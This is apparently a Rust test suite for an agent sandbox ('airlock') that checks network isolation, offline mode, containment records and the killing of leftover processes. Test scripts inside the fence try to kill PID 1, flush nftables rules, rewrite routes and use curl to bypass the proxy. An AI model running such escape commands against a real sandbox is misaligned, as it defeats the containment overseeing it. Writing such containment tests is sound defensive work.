    let test = "case_c22_root_in_the_fence_flushing_nftables_adding_routes_or_killing_pid_1_reaches_nothing";
    if !fence_or_skip(test) {
        return;
    }
    let fx = Fixture::new();
    let origin = ok_origin(&fx.origin_ca).await;
    let port = origin.addr().port();
    let fenced = Fenced::start(fx, &policy(port));
    let direct = |name: &str, url: &str| {
        format!(
            "curl --noproxy '*' -sS --connect-timeout 5 --max-time 10 -o /dev/null -X POST --data {name} {url} \
               2> {name}.err; echo $? > {name}.code"
        )
    };
    let by_name = format!("https://{HOST}:{port}/hook");
    let loopback = format!("https://127.0.0.1:{port}/hook");
    let script = [
        // PID 1 is the relay: the kernel ignores signals its init has no handler for.
        "kill -9 1; kill -0 1 && echo alive > pid1.txt".to_owned(),
        format!(
            "curl --noproxy '*' -sS -o /dev/null -w '%{{http_code}}' -X POST --data after-kill {by_name} > after-kill.code"
        ),
        "nft flush ruleset; echo $? > flush.code; nft list ruleset > ruleset.txt".to_owned(),
        direct("flushed-by-name", &by_name),
        direct("flushed-loopback", &loopback),
        "ip route add 10.0.0.0/8 dev lo; ip route replace default dev lo; ip route add 127.0.0.0/8 dev lo table main; echo $? > route.code"
            .to_owned(),
        direct("routed-by-name", &by_name),
        direct("routed-loopback", &loopback),
        // The proxy variable still works after all that: the relay on PID 1 carries it to
        // airlock, which stages the write.
        format!(
            "curl -sS -o /dev/null -w '%{{http_code}}' -X POST --data via-proxy {by_name} > via-proxy.code"
        ),
    ]
    .join("; ");
    let ran = fenced.run("isolated", &[], &script).await;
    ran.assert_success();
    assert_eq!(
        fenced.read("pid1.txt"),
        "alive",
        "kill -9 1 did not end the fence"
    );
    assert_eq!(fenced.read("after-kill.code"), "202", "{}", ran.stderr());
    // The command runs in a user namespace nested in the fence's: root there holds no
    // capability over the fence's network namespace, so the rules and routes stay.
    assert_ne!(
        fenced.read("flush.code"),
        "0",
        "root in the fence flushed the fence's rules"
    );
    assert_ne!(
        fenced.read("route.code"),
        "0",
        "root in the fence changed the fence's routes"
    );
    let mut staged_directly = 0;
    for name in ["flushed-by-name", "routed-by-name"] {
        let code = fenced.read(&format!("{name}.code"));
        // Still captured (the rules are intact), so curl succeeds and the write is
        // staged; or it could not connect. Never out.
        assert!(
            code == "0" || code == "7" || code == "28",
            "{name}: curl through airlock (0), or could not connect (7, 28); got {code}: {}",
            fenced.read(&format!("{name}.err"))
        );
        staged_directly += usize::from(code == "0");
    }
    for name in ["flushed-loopback", "routed-loopback"] {
        let code = fenced.read(&format!("{name}.code"));
        assert!(
            code == "7" || code == "28",
            "{name}: the fence's own loopback has no origin: curl could not connect (7) or timed out (28), got {code}: {}",
            fenced.read(&format!("{name}.err"))
        );
    }
    assert_eq!(fenced.read("via-proxy.code"), "202", "{}", ran.stderr());
    assert!(
        origin.received().is_empty(),
        "nothing reached the host's origin: {:?}",
        requests(&origin)
    );
    let effects = ran.report["effects"].as_array().expect("effects");
    assert_eq!(
        effects.len(),
        2 + staged_directly,
        "every write that went through airlock was staged: {effects:#?}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn case_c22_offline_reaches_nothing_and_the_record_says_offline() {
    let test = "case_c22_offline_reaches_nothing_and_the_record_says_offline";
    if !fence_or_skip(test) {
        return;
    }
    let fx = Fixture::new();
    let origin = ok_origin(&fx.origin_ca).await;
    let port = origin.addr().port();
    let fenced = Fenced::start(fx, &policy(port));
    let script = format!(
        "env > env.txt; ip route > routes.txt; \
         curl -sS --connect-timeout 5 --max-time 10 -X POST --data x https://{HOST}:{port}/hook 2> by-name.err; echo $? > by-name.code; \
         curl -sS --connect-timeout 5 --max-time 10 https://127.0.0.1:{port}/ 2> loopback.err; echo $? > loopback.code"
    );
    let ran = fenced.run("offline", &[], &script).await;
    ran.assert_success();
    assert_eq!(
        fenced.read("by-name.code"),
        "6",
        "{}",
        fenced.read("by-name.err")
    );
    assert!(
        fenced
            .read("by-name.err")
            .contains(&format!("Could not resolve host: {HOST}")),
        "the agent is told: {}",
        fenced.read("by-name.err")
    );
    assert_eq!(
        fenced.read("loopback.code"),
        "7",
        "{}",
        fenced.read("loopback.err")
    );
    assert_eq!(fenced.read("routes.txt"), "", "no route at all");
    let env = fenced.read("env.txt");
    let proxies: Vec<&str> = env
        .lines()
        .filter(|l| {
            let name = l.split('=').next().unwrap_or_default().to_ascii_lowercase();
            ["http_proxy", "https_proxy", "all_proxy"].contains(&name.as_str())
        })
        .collect();
    assert!(
        proxies.is_empty(),
        "no proxy variables offline: {proxies:?}"
    );
    assert!(env.lines().any(|l| l == "AIRLOCK_NETWORK=offline"), "{env}");
    assert!(origin.received().is_empty());
    assert_eq!(ran.containment()["network"], "offline", "{:#}", ran.report);
    let record = fenced.workspace(&ran.run()).await;
    assert_eq!(
        record["steps"][0]["containment"]["network"], "offline",
        "{record:#}"
    );
    assert_eq!(ran.count("connections_captured"), 0);
    assert_eq!(ran.count("dns_answered"), 0);
}

/// Whether any process on the host runs exactly `argv` (from the host's `/proc`).
fn host_runs(argv: &[&str]) -> bool {
    let wanted: Vec<u8> = argv
        .iter()
        .flat_map(|a| [a.as_bytes(), b"\0"].concat())
        .collect();
    std::fs::read_dir("/proc")
        .expect("/proc")
        .flatten()
        .filter(|e| e.file_name().to_string_lossy().parse::<u32>().is_ok())
        .any(|e| std::fs::read(e.path().join("cmdline")).is_ok_and(|c| c == wanted))
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn case_c22_the_run_record_holds_the_containment_and_leftovers_are_killed() {
    let test = "case_c22_the_run_record_holds_the_containment_and_leftovers_are_killed";
    if !fence_or_skip(test) {
        return;
    }
    let fx = Fixture::new();
    let origin = ok_origin(&fx.origin_ca).await;
    let port = origin.addr().port();
    let fenced = Fenced::start(fx, &policy(port));
    // A sleep nobody else runs, so the host's process list can be searched for it.
    let leftover = ["sleep", "31.4159"];
    let script = format!(
        "curl --noproxy '*' -sS -o /dev/null -X POST --data captured https://{HOST}:{port}/hook; \
         curl -sS -o /dev/null -X POST --data proxied https://{HOST}:{port}/hook; \
         curl --noproxy '*' -sS -o /dev/null https://unlisted.example/; \
         {FENCE_GUARD}; curl --noproxy '*' -sS -o /dev/null https://1.2.3.4/; \
         {} & \
         while ! grep -qs 31.4159 /proc/$!/cmdline; do sleep 0.05; done; echo started > leftover.txt",
        leftover.join(" ")
    );
    // No --network: where a fence can be made, isolated is the default.
    let ran = fenced
        .run("", &["--verify", "test -f leftover.txt"], &script)
        .await;
    ran.assert_success();
    assert!(
        !ran.stderr().contains("WARNING"),
        "no warning when the fence is made: {}",
        ran.stderr()
    );
    assert_eq!(ran.report["decision"]["kind"], "keep", "{:#}", ran.report);
    // Leftovers: listed, and killed with the fence.
    let left = ran.report["left_running"].as_array().expect("left_running");
    assert!(
        left.iter().any(|l| l["command"] == leftover.join(" ")),
        "the sleep is listed: {left:#?}"
    );
    assert_eq!(left.len(), 1, "nothing else was left: {left:#?}");
    assert_eq!(ran.report["left_running_killed"], true);
    assert!(
        airlock_tests::eventually(std::time::Duration::from_secs(5), || !host_runs(&leftover))
            .await,
        "`{}` is gone from the host",
        leftover.join(" ")
    );
    // The counts: each kind of traffic the script made.
    let containment = ran.containment();
    assert_eq!(containment["network"], "isolated");
    assert_eq!(containment["note"], Value::Null);
    assert!(containment["setup_us"].as_u64().is_some_and(|us| us > 0));
    for key in [
        "proxy_connections",
        "connections_captured",
        "connections_refused",
        "dns_answered",
        "dns_refused",
    ] {
        assert!(ran.count(key) >= 1, "{key}: {containment:#}");
    }
    assert_eq!(ran.count("relay_failures"), 0);
    // The same record on the run's command step, and airlock's counts on /fence.
    let run = ran.run();
    let record = fenced.workspace(&run).await;
    let steps = record["steps"].as_array().expect("steps");
    assert_eq!(steps[0]["kind"], "command");
    assert_eq!(&steps[0]["containment"], containment, "{record:#}");
    assert_eq!(steps[1]["kind"], "verify");
    assert_eq!(
        steps[1]["containment"]["network"], "isolated",
        "verify ran fenced too"
    );
    let fence = fenced
        .airlock
        .admin
        .get(&format!("/v1/runs/{run}/fence"))
        .await
        .expect("fence");
    assert_eq!(
        fence["socket"],
        fenced
            .fx
            .data_dir()
            .join("fence.sock")
            .display()
            .to_string()
    );
    for key in ["connections_captured", "proxy_connections", "dns_refused"] {
        assert!(
            fence["counts"][key].as_u64().unwrap_or(0) >= containment[key].as_u64().unwrap_or(0),
            "{key}: {fence:#}"
        );
    }
    let effects = ran.report["effects"].as_array().expect("effects");
    assert_eq!(effects.len(), 2, "captured and proxied POSTs: {effects:#?}");
    assert!(origin.received().is_empty());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn case_c22_each_step_records_its_own_containment_counts() {
    let test = "case_c22_each_step_records_its_own_containment_counts";
    if !fence_or_skip(test) {
        return;
    }
    let fx = Fixture::new();
    let origin = ok_origin(&fx.origin_ca).await;
    let port = origin.addr().port();
    let fenced = Fenced::start(fx, &policy(port));
    // The command makes one captured connection and one refused; verify makes none.
    let script = format!(
        "curl --noproxy '*' -sS -o /dev/null https://{HOST}:{port}/read; \
         {FENCE_GUARD}; curl --noproxy '*' -sS -o /dev/null https://1.2.3.4:{port}/"
    );
    let ran = fenced.run("isolated", &["--verify", "true"], &script).await;
    ran.assert_success();
    let record = fenced.workspace(&ran.run()).await;
    let steps = record["steps"].as_array().expect("steps");
    assert_eq!(
        steps[0]["containment"]["connections_captured"], 1,
        "{record:#}"
    );
    assert_eq!(
        steps[0]["containment"]["connections_refused"], 1,
        "{record:#}"
    );
    assert_eq!(steps[1]["kind"], "verify");
    for key in [
        "proxy_connections",
        "connections_captured",
        "connections_refused",
        "dns_answered",
        "dns_refused",
    ] {
        assert_eq!(
            steps[1]["containment"][key], 0,
            "verify (`true`) made no {key}, yet its step records the command's: {:#}",
            steps[1]["containment"]
        );
    }
}
